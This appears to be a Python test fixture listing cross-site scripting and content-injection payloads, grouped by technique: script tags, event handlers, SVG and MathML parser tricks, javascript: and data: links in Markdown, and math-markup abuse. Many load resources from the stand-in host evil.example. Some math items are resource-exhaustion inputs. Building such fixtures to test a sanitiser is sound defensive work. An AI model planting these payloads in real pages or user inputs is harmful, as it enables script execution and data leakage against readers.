"""What somebody could write to make a reader's page run or load something.

Each calls `hit()` if it runs, or asks evil.example for something if it loads.
"""

from __future__ import annotations

HOST = "evil.example"
URL = f"https://{HOST}/x"

SCRIPTS = [
    "<script>hit()</script>",
    f"<script src={URL}></script>",
    "<SCRIPT\n>hit()</SCRIPT\n>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "</script><script>hit()</script>",
    "</textarea></title></style></noscript><script>hit()</script>",
    '{"a":"</script><script>hit()</script>"}',
    "<!--><script>hit()</script-->",
    "<!-- --!><script>hit()</script> -->",
    "]]><script>hit()</script>",
    "{{constructor.constructor('hit()')()}} {% now %} ${hit()} #{hit()}",
    "\u2028<script>hit()</script>\u2029",
]
HANDLERS = [
    "<img src=x onerror=hit()>",
    "<img src=`x`onerror=hit()>",
    "<img\x0csrc=x\x0conerror=hit()>",
    '"><img src=x onerror="hit()">',
    "'><img src=x onerror='hit()'>",
    '" onmouseover="hit()" autofocus onfocus="hit()',
    "<body onload=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<marquee onstart=hit()>x</marquee>",
    "<b style=animation-name:x onanimationstart=hit()>x</b>",
]
ELEMENTS = [
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    f"<object data={URL}></object><embed src={URL}>",
    f"<base href=https://{HOST}/><link rel=stylesheet href={URL}>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<form action={URL}><button formaction=javascript:hit()>x</button></form>",
    f"<style>@import '{URL}'; * {{ background: url({URL}) }}</style>",
    f'<p style="background:url({URL});position:fixed;inset:0">x</p>',
    "<a href=javascript:hit()>x</a>",
    f"<template><img src={URL}></template><portal src={URL}></portal>",
]
FOREIGN = [
    "<svg onload=hit()></svg>",
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>",
    f"<svg><image href={URL} /><use href={URL}#x /></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=x onerror=hit()></style></mglyph></mtext>",
    "<math href=javascript:hit()><mi>x</mi></math>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
]
LINKS = [
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](javascript&colon;hit())",
    "[x](&#106;avascript:hit())",
    "[x](java&Tab;script:hit())",
    "[x](<java\tscript:hit()>)",
    "[x](\x01javascript:hit())",
    "[x](javascript:hit`1`)",
    "[x](vbscript:hit) [y](data:text/html,<script>hit()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    '[x](https://ok.example/"onclick="hit()) [y](//evil.example/x "a\\"onclick=hit()")',
    "[x][r]\n\n[r]: javascript:hit() \"title' onclick='hit()\"",
    "<javascript:hit()> <data:text/html,x> javascript:hit() www.javascript:hit()",
    f"![x]({URL}) ![y](javascript:hit()) ![z](data:image/svg+xml,<svg/onload=hit()>)",
    f"[![x]({URL})](javascript:hit()) <img srcset='{URL} 2x'>",
]
IMAGES = [
    f"![<script>hit()</script>]({URL}/1)",
    f'![" onload=hit() x="](<{URL}/2"onload=hit()> \'onload=hit()\')',
    f"![x]({URL}/</iframe><script>hit()</script>)",
    f"[![x]({URL}/4)](https://ok.example) # ![x](https://a:b@{HOST}/5)",
    f"![x](https://{HOST}%3B%20script-src%20*/6) ![x](https://{HOST}:1/7)",
]
MARKDOWN = [
    '```"><script>hit()</script>\nx\n```',
    '```html onmouseover="hit()\n<script>hit()</script>\n```',
    "~~~<img src=x onerror=hit()>\n<img src=x onerror=hit()>",
    "| <img src=x onerror=hit()> | b |\n|---|:-:|\n| [x](javascript:hit()) | `|` |",
    "- [ ] <img src=x onerror=hit()>\n- [x] [y](javascript:hit())",
    "> # <svg/onload=hit()>\n> ***<b onclick=hit()>x</b>***",
    "`<script>hit()</script>` **<i onclick=hit()>** ~~<script>hit()</script>~~",
    "[^1]\n\n[^1]: <script>hit()</script>",
]
MATH = [
    "$\\href{javascript:hit()}{x}$",
    f"$\\includegraphics{{{URL}}}$ $\\url{{javascript:hit()}}$",
    "$\\htmlData{x=1 onclick=hit()}{x} \\htmlStyle{background:url(//evil.example)}{y}$",
    "$<img src=x onerror=hit()>$ $$</span><script>hit()</script>$$",
    "$\\text{<script>hit()</script>}$ \\(\\unknown<svg/onload=hit()>\\)",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$",
]
FILES = [
    "<file name=\"' onclick='hit()\">\n<script>hit()</script>\n</file>",
    '<file name="a">\n</pre></details><img src=x onerror=hit()>\n</file>',
]

PAYLOADS = [
    *SCRIPTS,
    *HANDLERS,
    *ELEMENTS,
    *FOREIGN,
    *LINKS,
    *IMAGES,
    *MARKDOWN,
    *MATH,
    *FILES,
]
